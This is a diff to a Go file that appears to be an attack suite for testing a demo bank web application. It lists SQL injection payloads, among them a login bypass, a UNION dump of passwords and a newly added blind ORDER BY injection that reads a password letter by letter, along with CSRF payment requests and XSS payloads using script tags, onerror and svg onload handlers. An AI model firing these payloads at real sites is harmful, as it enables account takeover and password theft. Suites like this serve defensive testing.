@@ -11,6 +11,9 @@ const Taken = "taken over"
 // attributes and into a query.
 const stolen = "top.document.title=`" + Taken + "`"
 
+// letter is a column to sort by that is one thing or another, as a password begins.
+const letter = "CASE WHEN (SELECT password FROM account WHERE name='ada') LIKE 'a%' THEN city ELSE name END"
+
 // An Attack is one request of a browser. The requests of [Attacks] are all well formed.
 type Attack struct {
 	Scenario, Name string
@@ -43,12 +46,13 @@ func Attacks(origin string) []Attack {
 		{"sql", "log in as ada without her password", "POST", "/login", url.Values{"name": {"ada"}, "password": {"' OR '1'='1"}}, "same-origin", "", ""},
 		find("all passwords, by a union", "analytical", url.Values{"q": {"zz' UNION SELECT name, password FROM account --"}}),
 		find("all customers, by a condition", "London", url.Values{"q": {"zz%' OR 1=1 --"}}),
-		find("a statement of one's own, by the order", "London", url.Values{"q": {"a"}, "by": {"name LIMIT 1 --"}}),
+		find("a letter of a password, by the order", "<td>eve</td><td>Ely</td></tr><tr><td>bob</td>", url.Values{"q": {""}, "by": {letter}}),
 		{"csrf", "a payment, by a page of another site", "POST", "/pay", pay, "cross-site", "ada", ""},
 		{"csrf", "a payment, by a page of another port", "POST", "/pay", pay, "same-site", "ada", ""},
 		{"login", "ada uses the bank as eve, without knowing", "POST", "/login", url.Values{"name": {"eve"}, "password": {"evil"}}, "cross-site", "", ""},
 		xss("a script in a link", "/hello", "name", script, script),
 		xss("an event handler in a link", "/hello", "name", `<img src="/nothing" onerror="`+stolen+`">`, `onerror="`+stolen),
+		xss("a drawing's handler in a link", "/hello", "name", `<svg onload="`+stolen+`">`, `onload="`+stolen),
 		{"xss", "a script that all who come later read", "POST", "/say", url.Values{"text": {script}}, "same-origin", "eve", script},
 		xss("a document inside an attribute, which is escaped in vain", "/preview", "text", script, `srcdoc="&lt;script&gt;`),
 		xss("a script's address, which is escaped in vain", "/widget", "src", origin+"/steal.js", `<script src="`+origin),
